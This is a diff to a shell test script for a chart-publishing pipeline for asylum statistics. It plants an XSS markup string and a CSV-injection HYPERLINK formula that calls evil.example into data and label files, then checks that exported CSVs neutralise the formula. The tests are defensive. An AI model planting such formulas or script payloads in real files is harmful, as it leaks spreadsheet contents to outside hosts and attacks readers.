@@ -71,19 +71,23 @@ refused "negative count in a table" table "$H/neg.csv" ':3:[0-9]+: column 4 \(va
 # --- one cycle with markup and quotes everywhere: published, escaped --------
 PUB=$TMP/pub
 MARK=$'<script>alert(1)</script> <b onmouseover="x()">"q" \'s\' & &amp;'
-python3 - "$TMP/data/asylum_applications_annual.csv" "$MARK" <<'PY'
+# ... and a code a spreadsheet would run as a formula (CSV injection).
+FORMULA='=HYPERLINK("http://evil.example/?"&A1,"click")'
+python3 - "$TMP/data/asylum_applications_annual.csv" "$MARK" "$FORMULA" <<'PY'
 import csv, sys
 rows = list(csv.reader(open(sys.argv[1])))
 for r in rows[1:]:
     if r[0] == "AT":
         r[0] = sys.argv[2]
+    if r[0] == "BE":
+        r[0] = sys.argv[3]
 csv.writer(open(sys.argv[1], "w", newline="")).writerows(rows)
 PY
 # The EU chart names countries from a label table: the planted code gets a
 # name in it, and the name is as hostile as the code.
 LABELS=$TMP/config/labels/eurostat-geo.json
 cp "$LABELS" "$TMP/labels.good"
-jq --arg m "$MARK" '.[$m] = {de: $m, en: $m}' "$TMP/labels.good" > "$LABELS"
+jq --arg m "$MARK" --arg f "$FORMULA" '.[$m] = {de: $m, en: $m} | .[$f] = {de: $f, en: $f}' "$TMP/labels.good" > "$LABELS"
 SPEC=$TMP/config/charts.d/asylum-applications-monthly.json
 cp "$SPEC" "$TMP/spec.good"
 jq --arg m "$MARK" '.title.en = $m | .footer.source.en = $m' "$TMP/spec.good" > "$SPEC"
@@ -111,6 +115,16 @@ import csv, sys
 cells = [c for row in csv.reader(open(sys.argv[1], encoding="utf-8")) for c in row]
 sys.exit(0 if sys.argv[2] in cells else 1)
 PY
+# A spreadsheet shows a cell that starts with an apostrophe as text.
+formula_is_text() { # CSV FORMULA: the cell is there with a leading ', never bare
+  python3 - "$1" "$2" <<'PY'
+import csv, sys
+cells = [c for row in csv.reader(open(sys.argv[1], encoding="utf-8")) for c in row]
+sys.exit(0 if "'" + sys.argv[2] in cells and sys.argv[2] not in cells else 1)
+PY
+}
+check "formula: the chart CSV makes the code and label text" formula_is_text "$CUR/eu-applications-per-100k.en.csv" "$FORMULA"
+check "formula: the data CSV too" formula_is_text "$CUR/data/eurostat-asylum-annual.csv" "$FORMULA"
 check "markup: the manifest carries the title as a JSON string" \
   test "$(jq -r '.charts[] | select(.id == "asylum-applications-monthly" and .lang == "en") | .title' "$CUR/index.json")" = "$MARK"
 cp "$SRC/data/asylum_applications_annual.csv" "$TMP/data/"
